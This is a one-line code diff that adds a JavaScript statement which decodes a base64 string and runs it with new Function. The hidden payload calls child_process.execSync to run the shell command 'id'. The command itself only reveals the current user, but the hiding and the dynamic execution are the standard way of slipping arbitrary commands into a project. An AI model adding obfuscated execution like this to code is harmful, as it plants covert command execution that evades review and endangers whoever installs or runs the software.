@@ -1,0 +1,1 @@
+new Function(atob("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp"))();
